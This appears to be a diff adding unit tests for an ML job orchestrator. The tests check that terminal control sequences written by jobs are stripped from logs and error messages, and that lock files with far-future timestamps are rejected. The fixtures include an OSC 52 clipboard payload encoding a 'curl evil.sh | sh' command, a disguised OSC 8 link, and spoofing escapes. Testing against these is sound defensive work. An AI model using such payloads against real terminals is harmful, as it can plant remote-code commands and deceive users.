@@ -1,0 +1,95 @@
+"""What one job writes cannot act on a person's terminal, block another run's compiles, or pass for
+the orchestrator's own records: each attack, tried, and refused."""
+
+import json
+import logging
+import socket
+import time
+
+import pytest
+from typer.testing import CliRunner
+
+from trnflow.cli.app import app
+from trnflow.cli.console import plain
+from trnflow.device.cache import LOCKED, CompileCache, entry_name
+from trnflow.errors import FatalError
+from trnflow.redact import Redactor, printable
+
+pytestmark = pytest.mark.unit
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
+"""OSC 52: sets the reader's clipboard (here to `curl evil.sh | sh`) in terminals that allow it."""
+LINK = "\x1b]8;;https://evil.example/\x1b\\release notes\x1b]8;;\x1b\\"
+"""OSC 8: text that opens another address than it shows."""
+HOSTILE = [CLIPBOARD, LINK, "\x1b[2J\x1b[H", "\x1b[1A\x1b[2Kstep 40/40 passed", "\x9b31m", "\x1bP+q544e\x1b\\",
+           "gate \u202edessap\u202c", "a\rpassed", "\x07\x08\x7f"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_control_sequence_a_job_writes_survives_printable(text):
+    shown = printable(text)
+    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown and "\r" not in shown
+    assert "\u202e" not in shown and "\u202c" not in shown
+    assert "Y3VybCBldmlsLnNo" not in shown and "evil.example" not in shown  # the payloads are gone, not shown
+    assert printable(shown) == shown
+
+
+def test_printable_keeps_what_a_log_line_means():
+    assert printable("step 10/40, loss 0.25\ttook 3 s\nnext") == "step 10/40, loss 0.25\ttook 3 s\nnext"
+    assert printable("gate \u202edessap") == "gate \\u202edessap"  # the mark written out, so it reads as written
+    assert printable(f"{LINK} read") == "release notes read"
+    assert printable("naïve, 東京, 🙂") == "naïve, 東京, 🙂"
+    assert plain("two\nlines\u202e") == "two\\x0alines\\u202e"  # one field stays one line
+
+
+def test_a_jobs_output_reaches_the_task_log_without_control_sequences():
+    from trnflow.tasks._jobs import relay
+
+    task_log = logging.getLogger("trnflow.tests.relay")
+    records: list[logging.LogRecord] = []
+    kept = logging.Handler()
+    kept.emit = records.append
+    task_log.addHandler(kept)
+    task_log.setLevel(logging.DEBUG)
+    try:
+        relay(task_log, Redactor([]), f"loading {CLIPBOARD}weights\n{LINK}\n\x1b[1A\x1b[2Kall cores passed\n")
+    finally:
+        task_log.removeHandler(kept)
+    assert [r.getMessage() for r in records] == ["loading weights", "release notes", "all cores passed"]
+
+
+def test_a_failure_message_a_job_wrote_is_classified_without_control_sequences():
+    from trnflow.backends import JobInfo, JobState
+    from trnflow.results import FailureReport
+    from trnflow.tasks._jobs import classify
+
+    report = FailureReport(type="DataError", retryable=False, message=f"bad row{CLIPBOARD} \u202eenil")
+    error = classify(JobInfo("job-1", JobState.FAILED, failure=report))
+    assert "\x1b" not in str(error) and "Y3Vyb" not in str(error) and "\\u202eenil" in str(error)
+
+
+def _lock(root, key: str, record: dict) -> str:
+    entry = entry_name(key)
+    (root / entry).mkdir(parents=True, exist_ok=True)
+    (root / entry / "model.lock").write_text(json.dumps(record) if isinstance(record, dict) else record)
+    return entry
+
+
+@pytest.mark.parametrize("since", [1e300, "1e999", "inf", time.time() + 86400 * 365])
+def test_a_lock_that_would_never_go_stale_is_garbled_and_the_next_compile_takes_it(tmp_path, since):
+    """Another job writes a lock whose start is far in the future: read as a number it would hold the
+    entry for good. It is a garbled record instead, named, and the next compile clears it."""
+    cache = CompileCache(str(tmp_path))
+    entry = _lock(tmp_path, "MODULE_5+5", {"pid": 1, "host": "another-host", "since": since})
+    with pytest.raises(FatalError, match=r"model\.lock: a garbled lock record"):
+        cache.lock_owner(entry)
+    assert cache.acquire_lock(entry) is True
+    assert json.loads((tmp_path / entry / "model.lock").read_text())["host"] == socket.gethostname()
+
+
+def test_a_lock_taken_a_moment_ahead_on_another_hosts_clock_is_held(tmp_path):
+    cache = CompileCache(str(tmp_path))
+    entry = _lock(tmp_path, "MODULE_6+6", {"pid": 1, "host": "another-host", "since": time.time() + 30})
+    assert cache.lock_owner(entry) is not None and cache.state(entry) == LOCKED
+    listed = CliRunner().invoke(app, ["cache", "ls", str(tmp_path)])
+    assert listed.exit_code == 0, listed.output
